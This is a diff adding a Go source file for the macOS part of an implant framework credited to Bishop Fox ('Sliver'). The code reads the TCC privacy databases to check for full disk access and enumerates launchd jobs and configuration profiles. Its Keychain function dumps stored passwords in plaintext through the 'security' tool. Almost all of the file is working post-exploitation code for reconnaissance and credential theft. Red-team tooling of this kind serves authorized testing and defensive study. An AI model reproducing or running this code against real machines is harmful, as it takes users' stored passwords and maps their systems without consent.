@@ -0,0 +1,219 @@
+//go:build darwin
+
+package macos
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"sort"
+	"strings"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+const (
+	userTCCDatabase   = "Library/Application Support/com.apple.TCC/TCC.db"
+	systemTCCDatabase = "/Library/Application Support/com.apple.TCC/TCC.db"
+
+	tccQuery = "SELECT service, client, client_type, auth_value, auth_reason, last_modified FROM access"
+	// Before macOS 11 access was an 'allowed' flag instead of an auth value
+	tccLegacyQuery = "SELECT service, client, client_type, allowed * 2, 0, last_modified FROM access"
+)
+
+// TCC - Read the user and system TCC databases, the system database can only be
+// read with full disk access so being able to read it is reported as well
+func TCC() ([]*sliverpb.TCCEntry, bool, []string) {
+	entries := []*sliverpb.TCCEntry{}
+	errs := []string{}
+	fullDiskAccess := false
+	databases := map[string]string{"system": systemTCCDatabase}
+	if home, err := os.UserHomeDir(); err == nil {
+		databases["user"] = filepath.Join(home, userTCCDatabase)
+	}
+	for _, database := range []string{"user", "system"} {
+		path, ok := databases[database]
+		if !ok {
+			continue
+		}
+		output, err := run("/usr/bin/sqlite3", "-readonly", "-separator", tccSeparator, path, tccQuery)
+		if err != nil {
+			output, err = run("/usr/bin/sqlite3", "-readonly", "-separator", tccSeparator, path, tccLegacyQuery)
+		}
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("[tcc] failed to read %s: %s", path, err)
+			// {{end}}
+			errs = append(errs, fmt.Sprintf("%s: %s", path, err))
+			continue
+		}
+		if database == "system" {
+			fullDiskAccess = true
+		}
+		entries = append(entries, parseTCC(database, output)...)
+	}
+	return entries, fullDiskAccess, errs
+}
+
+// Keychain - Enumerate the items in a keychain, or the keychain search list, that
+// match the service filter. Dumping an item's secret may prompt the user unless
+// the item's ACL trusts the security tool.
+func Keychain(keychain string, service string, dump bool) ([]*sliverpb.KeychainItem, error) {
+	args := []string{"dump-keychain"}
+	if keychain != "" {
+		args = append(args, keychain)
+	}
+	output, err := run("/usr/bin/security", args...)
+	if err != nil {
+		return nil, err
+	}
+	service = strings.ToLower(service)
+	items := []*sliverpb.KeychainItem{}
+	for _, item := range parseKeychainDump(output) {
+		if service != "" && !strings.Contains(strings.ToLower(item.Service), service) && !strings.Contains(strings.ToLower(item.Server), service) {
+			continue
+		}
+		if dump {
+			dumpKeychainItem(item)
+		}
+		items = append(items, item)
+	}
+	return items, nil
+}
+
+func dumpKeychainItem(item *sliverpb.KeychainItem) {
+	var args []string
+	switch item.Class {
+	case "genp":
+		args = []string{"find-generic-password", "-s", item.Service, "-a", item.Account, "-w"}
+	case "inet":
+		args = []string{"find-internet-password", "-s", item.Server, "-a", item.Account, "-w"}
+	default:
+		return // Keys and certificates don't have a secret we can print
+	}
+	if item.Keychain != "" {
+		args = append(args, item.Keychain)
+	}
+	secret, err := run("/usr/bin/security", args...)
+	if err != nil {
+		item.Error = err.Error()
+		return
+	}
+	item.Secret = []byte(strings.TrimSuffix(secret, "\n"))
+}
+
+// Launchd - List the jobs defined in the launchd plist directories along with
+// the status of the jobs loaded in the current domain
+func Launchd(system bool) ([]*sliverpb.LaunchdJob, error) {
+	dirs := map[string]string{
+		"/Library/LaunchAgents":  "agent",
+		"/Library/LaunchDaemons": "daemon",
+	}
+	if home, err := os.UserHomeDir(); err == nil {
+		dirs[filepath.Join(home, "Library", "LaunchAgents")] = "agent"
+	}
+	if system {
+		dirs["/System/Library/LaunchAgents"] = "agent"
+		dirs["/System/Library/LaunchDaemons"] = "daemon"
+	}
+
+	loaded := map[string]*sliverpb.LaunchdJob{}
+	output, err := run("/bin/launchctl", "list")
+	if err == nil {
+		loaded = parseLaunchctlList(output)
+	}
+	jobs := []*sliverpb.LaunchdJob{}
+	for dir, domain := range dirs {
+		plists, _ := filepath.Glob(filepath.Join(dir, "*.plist"))
+		for _, path := range plists {
+			data, err := run("/usr/bin/plutil", "-convert", "xml1", "-o", "-", path)
+			if err != nil {
+				continue
+			}
+			plist, err := ParsePlist([]byte(data))
+			if err != nil {
+				// {{if .Config.Debug}}
+				log.Printf("[launchd] failed to parse %s: %s", path, err)
+				// {{end}}
+				continue
+			}
+			job := launchdJob(plist, path, domain)
+			if job == nil {
+				continue
+			}
+			if status, ok := loaded[job.Label]; ok {
+				job.Pid = status.Pid
+				job.LastExitStatus = status.LastExitStatus
+				delete(loaded, job.Label)
+			}
+			jobs = append(jobs, job)
+		}
+	}
+	// Loaded jobs without a plist, e.g. submitted with 'launchctl submit'
+	for label, job := range loaded {
+		if !system && strings.HasPrefix(label, "com.apple.") {
+			continue
+		}
+		jobs = append(jobs, job)
+	}
+	sort.Slice(jobs, func(i, j int) bool {
+		return jobs[i].Label < jobs[j].Label
+	})
+	return jobs, nil
+}
+
+// ConfigProfiles - List the installed configuration profiles, device profiles
+// are only listed when running as root
+func ConfigProfiles() ([]*sliverpb.ConfigProfile, error) {
+	output, err := run("/usr/bin/profiles", "show", "-output", "stdout-xml")
+	if err != nil {
+		// Older versions only support the legacy flags
+		output, err = run("/usr/bin/profiles", "-P", "-o", "stdout-xml")
+	}
+	if err != nil {
+		return nil, err
+	}
+	if !strings.Contains(output, "<plist") {
+		return []*sliverpb.ConfigProfile{}, nil // No profiles installed
+	}
+	plist, err := ParsePlist([]byte(output))
+	if err != nil {
+		return nil, err
+	}
+	return parseConfigProfiles(plist), nil
+}
+
+func run(name string, args ...string) (string, error) {
+	stderr := &bytes.Buffer{}
+	cmd := exec.Command(name, args...)
+	cmd.Stderr = stderr
+	output, err := cmd.Output()
+	if err != nil {
+		return "", fmt.Errorf("%s: %s %s", filepath.Base(name), err, strings.TrimSpace(stderr.String()))
+	}
+	return string(output), nil
+}